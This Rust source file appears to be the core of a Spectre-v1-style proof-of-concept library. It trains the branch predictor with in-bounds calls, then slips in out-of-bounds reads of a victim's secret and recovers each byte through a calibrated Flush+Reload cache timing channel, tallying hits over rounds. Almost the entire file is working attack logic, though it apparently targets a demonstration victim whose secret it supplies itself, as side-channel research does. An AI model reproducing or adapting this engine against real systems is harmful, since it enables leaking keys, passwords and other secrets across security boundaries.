use crate::memory::VictimMemory;
use crate::select::{attack_mask, branchless_select};
use crate::tally::{is_decisive, Candidate, RoundTally};
use crate::victim::Victim;
use crate::EngineError;
use cache_side_channel::{ProbeArray, ProbeOrder, Threshold};
use cache_utils::calibration::calibrate_threshold;
use cache_utils::TimingPrimitives;
use core::num::NonZeroUsize;
use flush_reload::NaiveFlushAndReload;
use log::trace;

/// Training calls between two attack calls.
pub const TRAINING_PER_ATTACK: usize = 5;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackParams {
    /// Upper bound on rounds per offset.
    pub max_rounds: u32,
    /// Each round makes `loops_per_round + 1` victim calls.
    pub loops_per_round: u32,
}

impl Default for AttackParams {
    fn default() -> Self {
        AttackParams {
            max_rounds: 999,
            loops_per_round: 30,
        }
    }
}

/// Most likely value of one secret byte, with its hit count.
///
/// A score of zero means the guess carries no information.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GuessResult {
    pub value: u8,
    pub score: u32,
}

impl From<Candidate> for GuessResult {
    fn from(c: Candidate) -> Self {
        GuessResult {
            value: c.value,
            score: c.score,
        }
    }
}

/// Owns everything one attack touches: the victim's memory, the probe array
/// and the covert channel reading it.
#[derive(Debug)]
pub struct AttackEngine<P: TimingPrimitives, V: Victim> {
    primitives: P,
    victim: V,
    memory: VictimMemory,
    probe: ProbeArray,
    channel: NaiveFlushAndReload,
    sink: u8,
}

impl<P: TimingPrimitives, V: Victim> AttackEngine<P, V> {
    pub fn new(
        primitives: P,
        victim: V,
        secret: &[u8],
        stride: usize,
        threshold: Threshold,
    ) -> Result<Self, EngineError> {
        let memory = VictimMemory::new(secret)?;
        let probe = ProbeArray::new(stride)?;
        Ok(AttackEngine {
            primitives,
            victim,
            memory,
            probe,
            channel: NaiveFlushAndReload::from_threshold(threshold),
            sink: 0,
        })
    }

    pub fn primitives(&self) -> &P {
        &self.primitives
    }

    pub fn memory(&self) -> &VictimMemory {
        &self.memory
    }

    pub fn threshold(&self) -> Threshold {
        self.channel.threshold
    }

    pub fn set_threshold(&mut self, threshold: Threshold) {
        self.channel.threshold = threshold;
    }

    pub fn set_probe_order(&mut self, order: ProbeOrder) {
        self.channel = self.channel.with_order(order);
    }

    /// Calibrate on this engine's primitives and adopt the result.
    pub fn calibrate(&mut self, samples: NonZeroUsize) -> Threshold {
        let threshold = Threshold::new(calibrate_threshold(&self.primitives, samples));
        self.set_threshold(threshold);
        threshold
    }

    /// Rewrite the probe array, bringing every page back in.
    pub fn refresh_probe_array(&mut self) {
        self.probe.fill(1);
        self.primitives.barrier_full();
    }

    /// Accumulated victim results. Meaningless, only there to keep the loads alive.
    pub fn sink(&self) -> u8 {
        self.sink
    }

    /// Guess the byte at `offset` of the victim memory, usually out of bounds.
    ///
    /// Runs at most `params.max_rounds` rounds, stopping early once the tally
    /// is decisive. With zero rounds the result is `(0, 0)`.
    pub fn attack_one_offset(&mut self, offset: usize, params: AttackParams) -> GuessResult {
        let mut tally = RoundTally::new();
        let mut best = Candidate::default();

        for remaining in (1..=params.max_rounds).rev() {
            self.channel.prepare(&self.primitives, &self.probe);

            let training_offset = remaining as usize % self.memory.bound();
            self.train_and_attack(training_offset, offset, params.loops_per_round);

            self.primitives.barrier_full();
            self.primitives.barrier_instruction();

            // The training line is always hot.
            let training_value = self.memory.legitimate(training_offset);
            self.channel.probe(&self.primitives, &self.probe, |value| {
                if value != training_value {
                    tally.record_hit(value);
                }
            });

            let (first, second) = tally.top_two();
            trace!(
                "offset {} round {}: {:#04x}={} {:#04x}={}",
                offset,
                params.max_rounds - remaining + 1,
                first.value,
                first.score,
                second.value,
                second.score
            );
            best = first;
            if is_decisive(first, second) {
                break;
            }
        }
        best.into()
    }

    fn train_and_attack(&mut self, training_offset: usize, target: usize, loops: u32) {
        for i in (0..=loops as usize).rev() {
            self.primitives.barrier_full();
            let index = branchless_select(
                attack_mask(i, TRAINING_PER_ATTACK + 1),
                target,
                training_offset,
            );
            self.sink ^= self
                .victim
                .call(&self.primitives, &self.memory, &self.probe, index);
        }
    }
}
